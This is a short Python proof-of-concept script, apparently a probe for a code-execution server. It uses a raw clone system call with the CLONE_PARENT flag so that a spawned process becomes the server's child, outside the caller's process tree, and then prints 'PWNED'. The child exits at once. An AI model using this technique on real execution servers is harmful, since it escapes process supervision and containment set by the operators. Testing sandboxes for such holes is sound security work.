# a process made with CLONE_PARENT would be the server's own child, beside this one
import ctypes, os
libc = ctypes.CDLL(None)
pid = libc.syscall({"x86_64": 56, "aarch64": 220}[os.uname().machine], 0x8000 | 17, 0, 0, 0, 0)
if pid == 0: libc._exit(0)
print("PWNED", pid)
